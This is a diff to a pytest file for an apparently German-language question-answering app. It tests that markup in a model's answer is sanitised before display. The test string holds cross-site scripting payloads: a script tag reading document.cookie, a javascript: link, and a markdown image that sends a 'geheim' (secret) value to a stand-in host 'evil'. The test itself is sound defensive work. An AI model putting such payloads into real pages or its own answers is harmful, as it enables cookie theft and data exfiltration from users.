@@ -166,8 +166,10 @@ def test_a_withdrawn_answer_says_not_found_and_keeps_the_draft_out_of_sight(
 
 def test_answer_markup_from_the_model_is_sanitised(indexed: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     evil = (
-        "Es sind 24 Werktage. Siehe <script>alert(1)</script> und ![x](http://evil/x.png?q=geheim) "
-        "sowie [hier klicken](javascript:alert(1)) [1]."
+        # No number beside the 24 from the source: an invented one would withdraw the answer, and this test
+        # is about markup in a shown answer (test_a_withdrawn_answer_... covers a withdrawn draft's).
+        "Es sind 24 Werktage. Siehe <script>alert(document.cookie)</script> und ![x](http://evil/x.png?q=geheim) "
+        "sowie [hier klicken](javascript:alert(document.domain)) [1]."
     )
     with_replies(monkeypatch, ScriptedChatModel(replies=[evil]))
     at = ask(start_app(), QUESTION)
